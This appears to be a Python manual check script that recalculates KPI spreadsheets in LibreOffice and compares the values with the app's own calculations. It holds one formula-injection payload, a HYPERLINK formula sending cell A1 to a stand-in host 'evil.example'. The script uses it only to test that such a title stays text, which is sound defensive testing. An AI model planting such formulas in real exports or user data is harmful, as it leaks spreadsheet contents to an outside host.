"""Recalculate KPI workbooks in LibreOffice and compare every summary and series number with
``compute_kpis`` — the check a stakeholder's spreadsheet program makes of the app.

It needs LibreOffice (``soffice``), which CI does not have, so it is a script rather than a test
(a test that skips itself in CI would prove nothing there). Run it from the project root:

    .venv/bin/python tests/manual/recalc_in_libreoffice.py                 # a 200-release demo plan
    .venv/bin/python tests/manual/recalc_in_libreoffice.py --plan P.relman  # an existing plan
    .venv/bin/python tests/manual/recalc_in_libreoffice.py --pdf OUT_DIR    # also the pages, as PDF

It exports the workbook for several filters (by week, month, quarter; one application), lets
LibreOffice recalculate each (``--convert-to xlsx`` with a throw-away profile), reads the
values back and prints one line per workbook: how many numbers matched and which did not.
A user text that looks like a formula must still be text. Exit status 1 when anything differs.
"""

from __future__ import annotations

import argparse
import datetime as dt
import math
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from openpyxl import load_workbook  # noqa: E402

from relman_desktop.exports.kpi_workbook import write_kpi_workbook  # noqa: E402
from relman_desktop.models.planfile import open_plan  # noqa: E402
from relman_desktop.services import kpis  # noqa: E402
from relman_desktop.services.base import Ctx  # noqa: E402

TODAY = dt.datetime(2026, 11, 27, 9, 0, tzinfo=dt.UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUMMARY = {  # summary row label: how to read the report's value
    "Release success rate": lambda r: r.release_success_rate,
    "Production deployments": lambda r: r.deployment_frequency.count,
    "Deployments per week": lambda r: r.deployment_frequency.per_week,
    "Deployment frequency (DORA bucket)": lambda r: r.deployment_frequency.bucket,
    "Change failure rate": lambda r: r.change_failure_rate,
    "MTTR, mean": lambda r: r.mttr_hours.mean,
    "MTTR, median": lambda r: r.mttr_hours.median,
    "Lead time for changes, median": lambda r: r.lead_time_hours.median,
    "On-time delivery": lambda r: r.on_time_delivery,
    "Approval cycle time, median": lambda r: r.approval_cycle_hours.median,
    "Data-quality gaps": lambda r: len(r.data_quality),
}
SERIES = {  # sheet: the report's series key for each column from D on (None: not in the report)
    "Release success": ["releases_deployed", None, "release_success_rate"],
    "Deployment frequency": ["deployments"],
    "Change failure rate": ["changes_deployed", None, "change_failure_rate"],
    "MTTR": ["failed_deployments", "mttr_hours_mean", "mttr_hours_median"],
    "Lead time": [None, "lead_time_hours_median"],
    "On-time delivery": [None, None, "on_time_delivery"],
    "Approval cycle": [None, "approval_cycle_hours_median"],
}


def same(got: Any, expected: Any) -> bool:
    if got in ("", "#N/A"):  # an empty period: #N/A in the series (a chart gap), "" in the summary
        got = None
    if expected is None or got is None:
        return got is expected
    if isinstance(expected, (int, float)) and isinstance(got, (int, float)):
        return math.isclose(got, expected, rel_tol=1e-9, abs_tol=1e-9)
    return got == expected


def recalculate(soffice: str, source: Path, out: Path, profile: Path) -> Path:
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--calc",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=600,
    )
    return out / source.name


def compare(path: Path, report: dict[str, Any]) -> tuple[int, list[str]]:
    wb = load_workbook(path, data_only=True)
    checked, wrong = 0, []
    summary = wb["Summary"]
    labels = {summary.cell(r, 1).value: r for r in range(1, summary.max_row + 1)}
    for label, read in SUMMARY.items():
        got, expected = summary.cell(labels[label], 2).value, read(report)
        checked += 1
        if not same(got, expected):
            wrong.append(f"Summary {label}: {got!r} ≠ {expected!r}")
    for title, keys in SERIES.items():
        ws = wb[title]
        for r, point in enumerate(report.series, 2):
            if ws.cell(r, 1).value != point.period:
                wrong.append(f"{title} row {r}: period {ws.cell(r, 1).value!r} ≠ {point.period!r}")
                continue
            for c, key in enumerate(keys, 4):
                if key is None:
                    continue
                got = ws.cell(r, c).value
                checked += 1
                if not same(got, getattr(point, key)):
                    wrong.append(f"{title} {point.period} {key}: {got!r} ≠ {getattr(point, key)!r}")
    changes = wb["Changes"]
    for r in range(2, changes.max_row + 1):
        if changes.cell(r, 2).value == EVIL:
            checked += 1
            if changes.cell(r, 2).data_type != "s":
                wrong.append("a change title that looks like a formula became one")
    return checked, wrong


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument(
        "--plan", type=Path, help="an existing plan (default: a 200-release demo plan)"
    )
    parser.add_argument(
        "--pdf", type=Path, help="also write each recalculated workbook as PDF here"
    )
    args = parser.parse_args(argv)
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        print(
            "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc",
            file=sys.stderr,
        )
        return 2
    with tempfile.TemporaryDirectory() as tmp_name:
        tmp = Path(tmp_name)
        if args.plan is None:
            from relman_desktop.services.demo import generate_demo

            plan = open_plan(tmp / "demo.relman", create=True)
            ctx = Ctx(plan, actor="check", clock=lambda: TODAY)
            generate_demo(ctx, releases=200, seed=4)
            with plan.write() as s:  # one title a spreadsheet would take for a formula
                from relman_desktop.models.entities import Change

                s.query(Change).order_by(Change.id).first().title = EVIL
        else:
            plan = open_plan(args.plan)
            ctx = Ctx(plan, actor="check", clock=lambda: TODAY)
        apps = [r.application for r in kpis.collect(ctx).releases if r.application]
        filters = [{"by": "month"}, {"by": "week"}, {"by": "quarter"}]
        if apps:
            filters.append({"by": "month", "application": max(set(apps), key=apps.count)})
        failed = False
        for n, f in enumerate(filters):
            source = tmp / f"kpis-{n}.xlsx"
            write_kpi_workbook(kpis.collect(ctx, **f), source)
            done = recalculate(soffice, source, tmp / "out", tmp / "profile")
            checked, wrong = compare(done, kpis.compute_kpis(ctx, **f))
            print(f"{f}: {checked} numbers, {len(wrong)} differ")
            for line in wrong[:20]:
                print(f"    {line}")
            failed |= bool(wrong)
            if args.pdf is not None:
                args.pdf.mkdir(parents=True, exist_ok=True)
                subprocess.run(
                    [
                        soffice,
                        f"-env:UserInstallation={(tmp / 'profile').as_uri()}",
                        "--headless",
                        "--convert-to",
                        "pdf",
                        "--outdir",
                        str(args.pdf),
                        str(done),
                    ],
                    check=True,
                    capture_output=True,
                    timeout=600,
                )
        plan.close()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
